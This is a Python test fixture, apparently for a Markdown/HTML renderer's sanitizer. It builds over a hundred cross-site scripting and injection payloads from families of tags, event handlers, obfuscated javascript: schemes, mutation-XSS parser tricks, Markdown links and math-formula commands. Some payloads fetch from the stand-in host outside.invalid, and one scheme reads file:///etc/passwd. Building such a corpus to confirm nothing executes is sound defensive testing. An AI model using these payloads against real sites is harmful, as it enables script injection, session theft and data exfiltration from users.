"""Texts that would do harm if they were taken for anything but text. Our own, made from families:

each family is a way in (a tag, an event, a scheme, a Markdown construct, a formula, a mutation of the parser), crossed
with what it carries. `PAYLOADS` holds well over a hundred, none twice. Each tries to set `window.__harm`, to open a
dialog, or to fetch from a host that is not ours; the tests see to it that nothing of that happens.
"""

from __future__ import annotations

from itertools import product

OUTSIDE = "https://outside.invalid"
HARM = "window.__harm=1"
ACTS = (HARM, f"fetch('{OUTSIDE}/x')", "alert(1)")

_LOADING_TAGS = (
    "img src",
    "img srcset",
    "video src",
    "audio src",
    "iframe src",
    "embed src",
    "object data",
    "script src",
    "input type=image src",
    "source srcset",
    "track src",
    "link rel=stylesheet href",
    "image href",
    "frame src",
)
_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus autofocus",
    "onmouseover",
    "onanimationstart",
    "ontoggle open",
    "onbegin",
    "onpointerenter",
    "onbeforetoggle",
)
_EVENT_TAGS = ("img src=x", "svg", "details", "body", "math", "input", "marquee", "a href=#")
_SCHEMES = (
    "javascript:{act}",
    "JaVaScRiPt:{act}",
    "java\tscript:{act}",
    "&#106;avascript:{act}",
    "javascript&colon;{act}",
    "\x01javascript:{act}",
    "data:text/html,<script>{act}</script>",
    "data:text/html;base64,PHNjcmlwdD4x",
    "vbscript:{act}",
    "//outside.invalid/x",
    "file:///etc/passwd",
    "blob:{act}",
    "jav&#x0A;ascript:{act}",
    "view-source:{act}",
)
_LINKS = (
    "[words]({address})",
    "<{address}>",
    "[words]: {address}\n\n[words]",
    "![picture]({address})",
    "[![in]({address})]({address})",
    '[words]({address} "onmouseover={act}")',
)
_MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror={act}>">',
    "<math><mtext><table><mglyph><style><img src=x onerror={act}>",
    '<svg></p><style><a id="</style><img src=x onerror={act}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={act}>",
    "<template><script>{act}</script></template>",
    '<svg><foreignObject><iframe srcdoc="<script>parent.{act}</script>"></foreignObject></svg>',
    "<svg><animate attributeName=href values=javascript:{act} /><a id=x><text>y</text></a></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload={act}>#x"/></svg>',
    "<style>@import '{outside}/x.css'; *{{background:url({outside}/y)}}</style>",
    "<base href={outside}/><a href=x>y</a>",
    '<meta http-equiv=refresh content="0;url=javascript:{act}">',
    '<a href="javascript:{act}">words</a>',
    '<p style="background:url({outside}/z);animation:x">words</p>',
    "<input name=attributes><input name=children><form id=location>",
    "<img name=getElementById><a id=cohort><a id=cohort name=client>",
    '"><script>{act}</script>',
    "'-{act}-'",
    "`${{{act}}}`",
    "{{{{constructor.constructor('{act}')()}}}}",
    "<!--><img src=x onerror={act}>-->",
    "<![CDATA[<script>{act}</script>]]>",
    "<?xml version='1.0'?><script>{act}</script>",
    "<scr<script>ipt>{act}</scr</script>ipt>",
    "<img src=x onerror\x00={act}>",
    "<a/onclick={act}>x</a>",
    "<isindex type=image src=x onerror={act}>",
)
_MARKDOWN = (
    "```html\n<script>{act}</script>\n```",
    '```"><img src=x onerror={act}>\nx\n```',
    "`<img src=x onerror={act}>`",
    "| <img src=x onerror={act}> | b |\n|---|---|\n| c | <script>{act}</script> |",
    "> <svg onload={act}>",
    '- <iframe src="javascript:{act}">',
    "# <script>{act}</script>",
    "@[<img src=x onerror={act}>](p-1)",
    '@[name]("onclick={act})',
    '[x](https://ok.invalid/"onmouseover="{act})',
    '<https://ok.invalid/"onclick={act}>',
    "&lt;script&gt;{act}&lt;/script&gt;",
    "\\<script>{act}\\</script>",
)
_FORMULAS = (
    "$\\href{{javascript:{act}}}{{x}}$",
    "$\\url{{javascript:{act}}}$",
    "$\\includegraphics{{{outside}/x.png}}$",
    "$\\htmlClass{{x}}{{y}}\\htmlStyle{{background:url({outside})}}{{z}}\\htmlData{{a={act}}}{{b}}$",
    "$\\text{{<img src=x onerror={act}>}}$",
    "$$\\def\\a{{\\a\\a}}\\a$$",
    "$<script>{act}</script>$",
    "$$\\rule{{9999em}}{{9999em}}$$",
    "$\\htmlId{{log}}{{x}}$",
)


def _all() -> list[str]:
    made: list[str] = []
    for tag in _LOADING_TAGS:
        made.append(f"<{tag}={OUTSIDE}/load onload={HARM} onerror={HARM}>")
    for number, (event, tag) in enumerate(product(_EVENTS, _EVENT_TAGS)):
        made.append(f"<{tag} {event}={ACTS[number % 3]}>x")
    for number, (scheme, link) in enumerate(product(_SCHEMES, _LINKS)):
        act = ACTS[number % 3]
        made.append(link.format(address=scheme.format(act=act), act=act))
    for family in (_MUTATIONS, _MARKDOWN, _FORMULAS):
        for number, text in enumerate(family):
            made.append(text.format(act=ACTS[number % 3], outside=OUTSIDE))
    return list(dict.fromkeys(made))


PAYLOADS = _all()
NAMES = [
    text[:60]
    for text in (
        "<img src=x onerror=alert(1)>",
        "<script>window.__harm=1</script>",
        "\u202egnp.exe",
        'a"onclick="alert(1)',
        "${alert(1)}",
        "<b>x</b>",
    )
]
assert len(PAYLOADS) >= 100, "the corpus promises at least a hundred"
